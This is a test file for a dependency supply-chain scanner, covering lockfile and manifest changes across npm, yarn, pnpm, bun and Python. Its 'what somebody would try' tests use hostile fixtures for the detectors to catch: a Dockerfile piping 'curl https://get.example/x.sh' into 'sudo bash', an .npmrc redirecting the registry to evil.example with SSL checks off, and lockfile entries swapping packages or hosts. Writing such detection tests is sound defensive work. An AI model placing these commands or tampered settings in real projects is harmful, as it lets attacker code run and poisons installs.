import { describe, expect, it } from 'vitest';
import { DEPENDENCY_DETECTORS } from '../../detectors/dependency/index.ts';
import type { DependencyChange } from '../../src/core/dependency.ts';
import { DEFAULT_THRESHOLDS } from '../../src/core/thresholds.ts';
import { collectChanges } from '../../src/ecosystems/collect.ts';
import { parseInProcess } from '../../src/ecosystems/parse.ts';
import { evidenceOf } from '../support/dependency-fixtures.ts';
import { type Files, snapshotOf } from '../support/memory-snapshot.ts';

/** The rules that answer from the files alone. */
const FILE_RULES = DEPENDENCY_DETECTORS.filter(({ rule }) =>
  /^(lockfile-|alias-|non-registry|registry-redirected|unpinned-|install-command)/.test(rule.id),
);

const HOST = 'https://registry.example';
const HASH = (sign: string): string => `sha512-${sign.repeat(86)}==`;

function locked(name: string, version: string, more: Readonly<Record<string, unknown>> = {}): object {
  return {
    version,
    resolved: `${HOST}/${name}/-/${name.split('/').at(-1)}-${version}.tgz`,
    integrity: HASH('A'),
    ...more,
  };
}

function manifest(dependencies: Readonly<Record<string, string>>, more: object = {}): string {
  return `${JSON.stringify({ name: 'app', dependencies, ...more }, null, 2)}\n`;
}

function lockfile(dependencies: Readonly<Record<string, string>>, packages: object, more: object = {}): string {
  const all = { '': { name: 'app', dependencies, ...more }, ...packages };
  return `${JSON.stringify({ name: 'app', lockfileVersion: 3, packages: all }, null, 2)}\n`;
}

const BASE: Files = {
  'package.json': manifest({ padder: '^1.0.0' }),
  'package-lock.json': lockfile(
    { padder: '^1.0.0' },
    {
      'node_modules/padder': locked('padder', '1.0.0', { dependencies: { ruler: '^2.0.0' } }),
      'node_modules/ruler': locked('ruler', '2.0.0'),
    },
  ),
};

async function rows(
  base: Files,
  head: Files,
  renames: Readonly<Record<string, string>> = {},
): Promise<readonly DependencyChange[]> {
  return (await collectChanges(snapshotOf(base, head, renames), parseInProcess)).changes;
}

async function findings(base: Files, head: Files): Promise<string[]> {
  const changes = await rows(base, head);
  return changes.flatMap((subject) =>
    FILE_RULES.flatMap((detector) => {
      const now = Date.parse('2026-11-01T00:00:00.000Z');
      const answer = detector.detect(subject, {
        evidence: evidenceOf(subject, {}),
        changes,
        thresholds: DEFAULT_THRESHOLDS,
        now,
      });
      return answer.state === 'findings' ? [`${detector.rule.id} ${subject.name}`] : [];
    }),
  );
}

function short(changes: readonly DependencyChange[]): string[] {
  return changes.map(
    (row) =>
      `${row.changeType} ${row.name} ${row.previous?.version ?? row.previous?.range ?? '-'} ${row.version ?? row.range}`,
  );
}

describe('rows of a change', () => {
  it('are one for each real name and version that differs, from the lockfile', async () => {
    const head = {
      'package.json': manifest({ padder: '^1.1.0', cutter: '^3.0.0' }),
      'package-lock.json': lockfile(
        { padder: '^1.1.0', cutter: '^3.0.0' },
        {
          'node_modules/cutter': locked('cutter', '3.0.0', { dependencies: { ruler: '^3.0.0' } }),
          'node_modules/cutter/node_modules/ruler': locked('ruler', '3.0.0'),
          'node_modules/padder': locked('padder', '1.1.0', { dependencies: { ruler: '^2.0.0' } }),
          'node_modules/ruler': locked('ruler', '2.0.0'),
        },
      ),
    };
    const found = await rows(BASE, head);
    expect(short(found)).toEqual(['added cutter - 3.0.0', 'added ruler - 3.0.0', 'updated padder 1.0.0 1.1.0']);
    expect(found.map((row) => row.relationship)).toEqual(['direct', 'transitive', 'direct']);
    expect(found[2]?.previous?.range).toBe('^1.0.0');
    expect(found[2]?.declared?.[0]).toMatchObject({ scope: 'dependencies', range: '^1.1.0' });
    expect(await findings(BASE, head)).toEqual([]);
  });

  it('come from the manifest where no lockfile is', async () => {
    const base = { 'package.json': manifest({ a: '^1.0.0', gone: '1.0.0' }) };
    const head = { 'package.json': manifest({ a: '^2.0.0', b: 'npm:real@1.2.3' }) };
    expect(short(await rows(base, head))).toEqual([
      'updated a ^1.0.0 ^2.0.0',
      'added real - 1.2.3',
      'removed gone - 1.0.0',
    ]);
  });

  it('are none for a reordering, nor for white space', async () => {
    const head = { ...BASE, 'package-lock.json': JSON.stringify(JSON.parse(String(BASE['package-lock.json']))) };
    expect(await rows(BASE, head)).toEqual([]);
  });

  it('say that a dependency is altered where only its hash is another', async () => {
    const head = { ...BASE, 'package-lock.json': String(BASE['package-lock.json']).replace(HASH('A'), HASH('B')) };
    const [row] = await rows(BASE, head);
    expect(row).toMatchObject({ changeType: 'altered', name: 'padder', previous: { integrity: HASH('A') } });
    expect(await findings(BASE, head)).toEqual(['lockfile-integrity-changed padder']);
  });

  it('follow a manifest to its new name', async () => {
    const base = { 'a/package.json': manifest({ padder: '^1.0.0' }) };
    const head = { 'b/package.json': manifest({ padder: '^1.0.0', cutter: '^1.0.0' }) };
    expect(short(await rows(base, head, { 'b/package.json': 'a/package.json' }))).toEqual(['added cutter - ^1.0.0']);
  });

  it('tell that a deleted manifest removes what it named', async () => {
    expect(short(await rows({ 'a/package.json': manifest({ padder: '1.0.0' }) }, {}))).toEqual([
      'removed padder - 1.0.0',
    ]);
  });

  it('judge each manifest of a monorepo with its nearest lockfile', async () => {
    const inner = {
      'tools/package.json': manifest({ old: '^1.0.0' }),
      'tools/package-lock.json': lockfile({ old: '^1.0.0' }, { 'node_modules/old': locked('old', '1.0.0') }),
    };
    const head = {
      ...BASE,
      'tools/package.json': manifest({ old: '^1.0.0', padder: '^1.0.0' }),
      'tools/package-lock.json': lockfile(
        { old: '^1.0.0', padder: '^1.0.0' },
        { 'node_modules/old': locked('old', '1.0.0'), 'node_modules/padder': locked('padder', '1.0.9') },
      ),
    };
    const found = await rows({ ...BASE, ...inner }, head);
    expect(short(found)).toEqual(['added padder - 1.0.9']);
    expect(found[0]?.lock).toMatchObject({ path: 'tools/package-lock.json', reached: true, outOfRange: [] });
  });
});

describe('ordinary changes', () => {
  it('of a Python name that is spelt in two ways give no finding', async () => {
    const lock = (version: string): string =>
      `version = 1\n\n[[package]]\nname = "pyyaml"\nversion = "${version}"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/packages/aa/pyyaml-${version}.tar.gz", hash = "sha256:${'a'.repeat(64)}", size = 1 }\n`;
    const project = (range: string): string =>
      `[project]\nname = "app"\nversion = "1"\ndependencies = ["PyYAML${range}"]\n`;
    const base = { 'pyproject.toml': project('>=6.0'), 'uv.lock': lock('6.0.1') };
    expect(await findings(base, { 'pyproject.toml': project('>=6.0.2'), 'uv.lock': lock('6.0.2') })).toEqual([]);
    expect(await findings(base, { ...base, 'pyproject.toml': project('>=6.0.1') })).toEqual([]);
  });

  it('from npm to yarn, pnpm and bun give rows and no finding', async () => {
    const { 'package-lock.json': _gone, ...rest } = BASE;
    const yarn = `# yarn lockfile v1\n\n\npadder@^1.0.0:\n  version "1.0.0"\n  resolved "${HOST}/padder/-/padder-1.0.0.tgz#${'0'.repeat(40)}"\n  integrity ${HASH('A')}\n  dependencies:\n    ruler "^2.0.0"\n\nruler@^2.0.0:\n  version "2.0.0"\n  resolved "${HOST}/ruler/-/ruler-2.0.0.tgz#${'0'.repeat(40)}"\n  integrity ${HASH('A')}\n`;
    const pnpm = `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      padder:\n        specifier: ^1.0.0\n        version: 1.0.0\n\npackages:\n\n  padder@1.0.0:\n    resolution: {integrity: ${HASH('A')}}\n\n  ruler@2.0.0:\n    resolution: {integrity: ${HASH('A')}}\n\nsnapshots:\n\n  padder@1.0.0:\n    dependencies:\n      ruler: 2.0.0\n\n  ruler@2.0.0: {}\n`;
    const bun = `{ "lockfileVersion": 1, "workspaces": { "": { "dependencies": { "padder": "^1.0.0" } } }, "packages": { "padder": ["padder@1.0.0", "", { "dependencies": { "ruler": "^2.0.0" } }, "${HASH('A')}"], "ruler": ["ruler@2.0.0", "", {}, "${HASH('A')}"] } }`;
    expect(await rows(BASE, { ...rest, 'yarn.lock': yarn })).toEqual([]);
    expect(await rows(BASE, { ...rest, 'pnpm-lock.yaml': pnpm })).toEqual([]);
    expect(await rows(BASE, { ...rest, 'bun.lock': bun })).toEqual([]);
    expect(await findings({ ...rest, 'yarn.lock': yarn }, { ...rest, 'pnpm-lock.yaml': pnpm })).toEqual([]);
  });

  it('a migration that also changes a hash is no mere migration', async () => {
    const { 'package-lock.json': _gone, ...rest } = BASE;
    const bun = `{ "lockfileVersion": 1, "workspaces": { "": { "dependencies": { "padder": "^1.0.0" } } }, "packages": { "padder": ["padder@1.0.0", "", { "dependencies": { "ruler": "^2.0.0" } }, "${HASH('B')}"], "ruler": ["ruler@2.0.0", "", {}, "${HASH('A')}"] } }`;
    expect(await findings(BASE, { ...rest, 'bun.lock': bun })).toContain('lockfile-integrity-changed padder');
  });
});

describe('what somebody would try', () => {
  const attempt = (packages: object): Files => ({
    ...BASE,
    'package-lock.json': lockfile(
      { padder: '^1.0.0' },
      {
        'node_modules/padder': locked('padder', '1.0.0', { dependencies: { ruler: '^2.0.0' } }),
        'node_modules/ruler': locked('ruler', '2.0.0'),
        ...packages,
      },
    ),
  });

  it('an entry in the lockfile that nothing asks for', async () => {
    expect(await findings(BASE, attempt({ 'node_modules/evil': locked('evil', '1.0.0') }))).toContain(
      'lockfile-manifest-mismatch evil',
    );
  });

  it('a workspace in the lockfile that no folder has, to make an entry look asked for', async () => {
    const head = attempt({
      'packages/ghost': { name: 'ghost', dependencies: { evil: '^1.0.0' } },
      'node_modules/ghost': { resolved: 'packages/ghost', link: true },
      'node_modules/evil': locked('evil', '1.0.0'),
    });
    expect(await findings(BASE, head)).toContain('lockfile-manifest-mismatch evil');
  });

  it('the root of the lockfile asking for more than the manifest', async () => {
    const text = lockfile(
      { padder: '^1.0.0', evil: '^1.0.0' },
      {
        'node_modules/padder': locked('padder', '1.0.0', { dependencies: { ruler: '^2.0.0' } }),
        'node_modules/ruler': locked('ruler', '2.0.0'),
        'node_modules/evil': locked('evil', '1.0.0'),
      },
    );
    expect(await findings(BASE, { ...BASE, 'package-lock.json': text })).toContain('lockfile-manifest-mismatch evil');
  });

  it('another package behind a trusted folder name', async () => {
    expect(
      await findings(BASE, attempt({ 'node_modules/ruler': locked('evil', '2.0.0', { name: 'evil' }) })),
    ).toContain('alias-hides-package evil');
  });

  it('the address of another package under a trusted name', async () => {
    const head = attempt({
      'node_modules/ruler': { ...locked('ruler', '2.0.0'), resolved: `${HOST}/evil/-/evil-2.0.0.tgz` },
    });
    expect(await findings(BASE, head)).toContain('alias-hides-package ruler');
  });

  it('a second copy of a package, from another host, deep in the tree', async () => {
    const head = attempt({
      'node_modules/padder/node_modules/ruler': {
        ...locked('ruler', '2.0.0'),
        resolved: 'https://evil.example/ruler/-/ruler-2.0.0.tgz',
      },
    });
    expect(await findings(BASE, head)).toContain('lockfile-foreign-host ruler');
  });

  it('a version nobody asked for', async () => {
    expect(await findings(BASE, attempt({ 'node_modules/ruler': locked('ruler', '9.9.9') }))).toContain(
      'lockfile-manifest-mismatch ruler',
    );
  });

  it('hiding an entry in the half of a version 2 lockfile that new npm does not read', async () => {
    const text = JSON.stringify({
      lockfileVersion: 2,
      packages: JSON.parse(String(BASE['package-lock.json'])).packages,
      dependencies: {
        padder: { version: '1.0.0', resolved: 'https://evil.example/padder/-/padder-1.0.0.tgz', integrity: HASH('A') },
      },
    });
    expect(await findings(BASE, { ...BASE, 'package-lock.json': text })).toContain('lockfile-foreign-host padder');
  });

  it('a lockfile that cannot be read is told of, never left out', async () => {
    const text = `<<<<<<< ours\n${BASE['package-lock.json']}`;
    const { unread } = await collectChanges(snapshotOf(BASE, { ...BASE, 'package-lock.json': text }), parseInProcess);
    expect(unread).toMatchObject([{ path: 'package-lock.json', line: 1, transient: false }]);
  });

  it('a manifest that is a link is told of', async () => {
    const snapshot = snapshotOf({}, { 'package.json': '../elsewhere/package.json' });
    const files = snapshot.files.map((file) => ({ ...file, head: { sha: 'x', mode: '120000' as const } }));
    const { unread } = await collectChanges({ ...snapshot, files }, parseInProcess);
    expect(unread).toMatchObject([{ path: 'package.json', reason: 'a symbolic link where a file is expected' }]);
  });

  it('a piped script, an install beside the manifest, and a redirected registry', async () => {
    const head = {
      ...BASE,
      Dockerfile:
        'FROM scratch\nRUN curl -fsSL https://get.example/x.sh \\\n  | sudo bash\nRUN npm install -g some-cli && pip install "other>=1"\n',
      '.npmrc': 'registry=https://evil.example/\nstrict-ssl=false\n',
    };
    const found = await findings(BASE, head);
    expect(found).toContain('install-command get.example/x.sh');
    expect(found).toContain('install-command some-cli');
    expect(found).toContain('install-command other');
    expect(found).toContain('registry-redirected registry');
    expect(found).toContain('registry-redirected strict-ssl');
  });
});

describe('imports', () => {
  it('are told where nothing explains them, and only there', async () => {
    const head = {
      ...BASE,
      'tsconfig.json': '{ "compilerOptions": { "paths": { "kit/*": ["./kit/*"] } } }',
      'src/local.ts': 'export const a = 1;',
      'src/app.ts': [
        "import fs from 'node:fs';",
        "import path from 'path';",
        "import padder from 'padder/deep/file.js';",
        "import a from './local.ts';",
        "import b from '@/b';",
        "import c from '~/c';",
        "import d from 'virtual:d';",
        "import e from '$lib/e';",
        "import f from 'kit/f';",
        "const g = require('invented-name');",
        "const h = await import('@scope/other');",
        "// import i from 'in-a-comment';",
      ].join('\n'),
    };
    const found = (await rows(BASE, head)).filter((row) => row.entry === 'import');
    expect(found.map((row) => `${row.name} ${row.location.startLine}`)).toEqual([
      'invented-name 10',
      '@scope/other 11',
    ]);
  });

  it('of Python are judged by the distribution that brings them', async () => {
    const base = {
      'requirements.txt': 'PyYAML==6.0.2\nopencv-python\ngoogle-cloud-storage\n',
      'tool/helper.py': 'A = 1\n',
    };
    const head = {
      ...base,
      'tool/main.py':
        'import os, yaml\nimport cv2\nfrom google.cloud import storage\nfrom . import helper\nimport helper\nimport bs4\nimport invented_thing\n',
    };
    const found = (await rows(base, head)).filter((row) => row.entry === 'import');
    expect(found.map((row) => row.name)).toEqual(['beautifulsoup4', 'invented_thing']);
  });
});
